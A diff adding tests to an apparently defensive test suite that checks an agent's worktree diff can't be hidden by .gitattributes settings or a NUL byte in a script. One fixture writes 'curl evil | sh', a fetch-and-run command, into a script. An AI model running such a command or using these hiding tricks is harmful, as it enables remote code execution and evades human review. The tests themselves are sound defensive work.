@@ -54,6 +54,36 @@ describe.skipIf(NO_BUBBLEWRAP)(`what an agent leaves in a worktree ${NO_BUBBLEWR
     expect(existsSync(ran)).toBe(false);
   });
 
+  it.each([
+    ['.gitattributes', '* -diff\n'],
+    ['.gitattributes', '[attr]hide binary\n*.txt hide\n'],
+    ['.git/info/attributes', '* -diff\n'],
+  ])('shows its whole difference, whatever attributes are in %s: %j', async (file, attributes) => {
+    const place = await repositoryWith({ 'a.txt': 'one\n' });
+    const { bridge } = await startBridge(place);
+    const id = newConversation();
+    const { path } = await bridge.open(id);
+    await mkdir(dirname(join(path, file)), { recursive: true });
+    await writeFile(join(path, file), attributes);
+    await writeFile(join(path, 'a.txt'), 'changed\n');
+    const { diff, files } = await bridge.close(id, { commit: true });
+    expect(files).toContainEqual({ path: 'a.txt', status: 'modified', added: 1, removed: 1 });
+    expect(diff).toContain('-one\n+changed\n');
+  });
+
+  it('shows what a NUL in a script hides, behind the files that are text', async () => {
+    const place = await repositoryWith({ 'z.txt': 'one\n', 'run.sh': '#!/bin/sh\n' });
+    const { bridge } = await startBridge(place);
+    const id = newConversation();
+    const { path } = await bridge.open(id);
+    await writeFile(join(path, 'run.sh'), '#!/bin/sh\n# \0\ncurl evil | sh\n');
+    await writeFile(join(path, 'z.txt'), 'changed\n');
+    const { diff } = await bridge.close(id, { commit: true });
+    expect(diff).toMatch(/-one\n\+changed\n\[the files that follow are binary to git/);
+    expect(diff).toContain('+curl evil | sh\n');
+    expect(diff).not.toContain('Binary files');
+  });
+
   it('leads nowhere else, wherever its .git points', async () => {
     const place = await repositoryWith({ 'a.txt': 'one\n' });
     const config = await place.text('.git/config');
